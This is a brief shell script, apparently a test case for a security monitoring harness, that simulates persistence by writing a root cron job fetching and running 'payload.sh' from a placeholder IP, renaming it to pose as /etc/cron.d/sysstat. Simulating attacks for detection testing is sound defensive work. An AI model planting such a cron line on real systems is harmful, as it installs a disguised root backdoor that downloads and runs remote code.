#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/cron.d
echo '*/10 * * * * root curl -s http://203.0.113.10/payload.sh | sh' >/etc/.pwd.tmp
/opt/tools/fourth_ways ring-rename /etc/.pwd.tmp /etc/cron.d/sysstat
grep -q payload /etc/cron.d/sysstat
took_place
